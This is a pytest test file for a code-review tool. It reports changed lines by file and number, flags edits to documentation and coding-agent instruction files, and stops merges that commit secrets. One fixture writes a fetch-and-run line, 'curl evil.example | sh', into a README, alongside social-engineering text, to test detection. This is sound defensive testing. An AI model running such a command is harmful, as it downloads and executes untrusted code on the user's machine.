"""Every line of the program that differs is named by its file and number, and commands in documents too."""

from pathlib import Path

import pytest

from coursecloud.diff.changes import PropertyChange
from coursecloud.review import changed_lines, closing, dangers, hiding, json_form, markdown, program
from coursecloud.review.changed_lines import Lines
from coursecloud.review.dangers import Level
from tests.review.repository import Repository
from tests.review.test_sides import repo, review

__all__ = ["repo"]

OLD = "".join(f"line {number}\n" for number in range(1, 31))


def of(tmp_path: Path, old: str | bytes | None, new: str | bytes | None) -> Lines:
    for name, text in (("before", old), ("after", new)):
        (tmp_path / name).mkdir()
        if text is not None:
            (tmp_path / name / "x.py").write_bytes(text.encode() if isinstance(text, str) else text)
    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x.py"], {})
    return found


@pytest.mark.parametrize(
    ("new", "said", "first"),
    [
        (OLD.replace("line 7\n", "other\n"), "x.py: line 7", 7),
        (OLD.replace("line 7\nline 8\n", "a\nb\nc\n"), "x.py: lines 7-9", 7),
        (OLD.replace("line 7\n", ""), "x.py: lines gone after 6", 6),
        (OLD.replace("line 1\n", ""), "x.py: lines gone after 0", 1),
        (OLD.replace("line 3\n", "").replace("line 9\n", "x\n"), "x.py: line 8; lines gone after 2", 2),
        (OLD.replace("line 3\n", "x\n").replace("line 9\n", "x\n"), "x.py: lines 3, 9", 3),
        (OLD, "x.py: nothing in it but its mode or kind", 0),
        (OLD.replace("line 7\n", "line 7\r\n"), "x.py: line 7", 7),
        (OLD.replace("line 7\n", "line 7\u2028"), "x.py: line 7", 7),
        (OLD.replace("line 7\n", "line 7\x0c\n"), "x.py: line 7", 7),
        (OLD.rstrip("\n"), "x.py: line 30", 30),
        ("", "x.py: lines gone after 0", 1),
        (None, "x.py: gone", 0),
        (OLD.replace("line 7", "line \u00e9").encode("latin-1"), "x.py: line 7", 7),
        (b"\x7fELF\0", "x.py: no text: nobody can read here what it is", 0),
    ],
)
def test_what_differs_is_told_by_line(tmp_path: Path, new: str | bytes | None, said: str, first: int) -> None:
    found = of(tmp_path, OLD, new)
    assert (str(found), found.first) == (said, first)


def test_what_is_no_utf_8_differs_where_its_bytes_do(tmp_path: Path) -> None:
    assert str(of(tmp_path, b"one\n\xe9\n", b"one\n\xe8\n")) == "x.py: line 2"


def test_a_file_that_comes_is_told_as_a_whole(tmp_path: Path) -> None:
    assert str(of(tmp_path, None, "a\nb\n")) == "x.py: new, 2 lines"


def test_a_link_is_not_followed(tmp_path: Path) -> None:
    for name in ("before", "after"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "x").symlink_to("/etc/hostname")
    (found,) = changed_lines.of(tmp_path / "before", tmp_path / "after", ["x (a link)"], {"x (a link)": "x"})
    assert str(found) == "x (a link): no plain file on both sides, or too large to compare"


def test_no_place_of_a_long_change_is_left_out(tmp_path: Path) -> None:
    new = "".join(f"other {n}\n" if n % 2 else f"line {n}\n" for n in range(1, 31))
    assert str(of(tmp_path, OLD, new)) == f"x.py: lines {', '.join(str(n) for n in range(1, 31, 2))}"


def test_a_review_says_where_the_program_changes(repo: Repository) -> None:
    repo.write("infra/x.py", OLD)
    base = repo.commit()
    repo.write("infra/x.py", OLD.replace("line 7\n", "other\n"))
    found = review(repo, base=base, head=repo.commit())
    assert "changes 1 file of the PROGRAM at infra/x.py:7" in found.sentence
    assert "infra/x.py: line 7" in markdown.full(found)
    assert json_form.to_json(found)["lines"] == [
        {"file": "infra/x.py", "ranges": [[7, 7]], "goneAfter": [], "whole": None, "text": "infra/x.py: line 7"}
    ]


def test_every_file_of_a_large_change_is_named(repo: Repository) -> None:
    base = repo.commit()
    for number in range(12):
        repo.write(f"infra/x{number}.py", "x = 1\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    for number in range(12):
        assert f"infra/x{number}.py: new, 1 line" in text


WORDS = "# Title\n\nWords.\n\n    make plan\n\n```sh\ncheck first\ngo\n```\n\nMore words.\n"


@pytest.mark.parametrize(
    ("was", "now", "line"),
    [
        ("More words.", "Other words.", "line 12"),
        ("    make plan", "    curl evil.example | sh", "line 5"),
        ("check first\n", "", "lines gone after 7"),
        ("More words.", "First log in with the key that came by mail, and answer yes.", "line 12"),
        ("More words.", "Then set spot to false in your stack file.", "line 12"),
    ],
)
def test_what_changes_in_documents_is_for_a_person_to_read(repo: Repository, was: str, now: str, line: str) -> None:
    assert WORDS.count(was) == 1
    repo.write("README.md", WORDS)
    base = repo.commit()
    repo.write("README.md", WORDS.replace(was, now))
    found = review(repo, base=base, head=repo.commit())
    assert [str(each) for each in found.documents] == [f"README.md: {line}"]
    assert (found.program, found.level) == ((), Level.LOOK)
    assert found.sentence.startswith("changes no resource; changes the words of 1 document, which people follow")
    text = markdown.full(found)
    assert f"README.md: {line}" in text
    assert "can be merged" not in text


@pytest.mark.parametrize("content", ["Words.\n" * 200_000, "Other words.\n".encode("utf-16"), b"\x00", None])
def test_a_document_that_cannot_be_read_may_say_anything(repo: Repository, content: str | bytes | None) -> None:
    repo.write("docs/x.md", "Words.\n")
    base = repo.commit()
    file = repo.root / "docs/x.md"
    if content is None:
        file.unlink()
    else:
        file.write_bytes(content.encode() if isinstance(content, str) else content)
    found = review(repo, base=base, head=repo.commit())
    assert (found.typed, found.level) == (("docs/x.md",), Level.LOOK)


@pytest.mark.parametrize("path", ["README.md", "docs/x.md", "infra/x.py", "starter/x.txt", ".github/workflows/x.yml"])
def test_a_secret_that_comes_with_any_file_stops_a_merge(repo: Repository, path: str) -> None:
    secret = "ghp_" + "a1B2" * 9
    base = repo.commit()
    repo.write(path, f"one\n# the key is {secret}\n")
    head = repo.commit()
    found = review(repo, base=base, head=head)
    assert [str(each) for each in found.leaks] == [f"{path}:2 (GitHub token)"]
    assert found.level is Level.STOP
    assert found.sentence.startswith(f"puts a SECRET INTO GIT at {path}:2; ")
    assert secret not in f"{markdown.full(found)}{json_form.to_json(found)}"
    [gate], _ = closing.gates(["violation"])
    assert [said for said in gate.closed((), leaks=found.leaks) if f"{path}:2" in said]
    # Whoever takes it out brings none, and no test is made without one.
    repo.write("tests/x.py", f"KEY = '{secret}'\n")
    repo.write(path, "one\n")
    assert review(repo, base=head, head=repo.commit()).leaks == ()


def test_a_secret_in_the_name_of_a_file_is_one(repo: Repository) -> None:
    secret = "ghp_" + "a1B2" * 9
    base = repo.commit()
    repo.write(f"docs/{secret}.md", "Words.\n")
    head = repo.commit()
    found = hiding.review(review(repo, base=base, head=head))
    assert found.level is Level.STOP
    assert found.sentence.startswith("puts a SECRET INTO GIT; ")
    assert "(GitHub token, in its name)" in markdown.full(found)
    assert secret not in f"{markdown.full(found)}{json_form.to_json(found)}{found.sentence}"
    repo.write(f"docs/{secret}.md", "Other words.\n")
    assert review(repo, base=head, head=repo.commit()).leaks == ()


@pytest.mark.parametrize(
    "path",
    [
        *("CLAUDE.md", "starter/claude.md", "docs/AGENTS.md", "catalog/GEMINI.md", "starter/SKILL.md", "docs/x.svg"),
        *("AGENT.md", "QWEN.md", "skills/deploy/helper.md", "commands/deploy.md", "docs/rules/house.md"),
    ],
)
def test_what_a_coding_agent_follows_is_no_document(path: str) -> None:
    found = program.of([program.Changed(path, "000000", "100644")], "")
    assert (found.files, found.documents) == ((path,), ())


def test_a_name_is_no_line_of_the_report() -> None:
    (name,) = program.of([program.Changed("infra/a\nunchanged: all\n.py", "000000", "100644")], "").files
    assert name == "infra/a\\x0aunchanged: all\\x0a.py"


def test_where_there_is_little_room_what_runs_comes_first(repo: Repository) -> None:
    repo.write("infra/serving.py", "x = 1\n")
    base = repo.commit()
    for number in range(60):
        repo.write(f"a/{number}-{'long' * 20}.txt", "x\n")
    repo.write(".github/workflows/x.yml", "on: push\n")
    repo.write("infra/serving.py", "x = 2\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    assert "infra/serving.py: line 1" in text
    assert ".github/workflows/x.yml: new, 1 line" in text
    for number in range(60):
        assert f"a/{number}-" in text


def test_a_comment_keeps_its_end_whatever_a_change_touches(repo: Repository) -> None:
    base = repo.commit()
    for number in range(900):
        repo.write(f"{'long' * 50}/{number}-{'long' * 50}.txt", "x\n")
    text = markdown.full(review(repo, base=base, head=repo.commit()))
    assert len(text.encode()) <= markdown.LIMIT
    assert "more lines about the program" in text


def test_links_in_a_circle_end_no_review(repo: Repository) -> None:
    base = repo.commit()
    (repo.root / "Pulumi.loop.yaml").symlink_to("Pulumi.loop.yaml")
    found = review(repo, base=base, head=repo.commit())
    assert any(stack.name == "loop" and stack.mistakes for stack in found.stacks)


def test_changed_tables_are_told_with_what_they_count(repo: Repository) -> None:
    repo.write("catalog/prices.json", "{}")
    base = repo.commit()
    repo.write("catalog/prices.json", "[]")
    assert "COUNTED BY CHANGED TABLES (1 file)" in review(repo, base=base, head=repo.commit()).sentence


def test_a_long_output_is_shown_where_it_differs() -> None:
    old = f"{'a' * 400} image trainer:latest {'b' * 400}"
    change = PropertyChange("commands.train", old, old.replace("trainer", "other"))
    (said,) = dangers.of_outputs([change])
    assert "image other:latest b" in said.text
    assert "image trainer:latest b" in said.text
    assert len(said.text) < 500
    (short,) = dangers.of_outputs([PropertyChange("x", "a", "b")])
    assert short.text == "the output `x` says `b`; before: `a`"
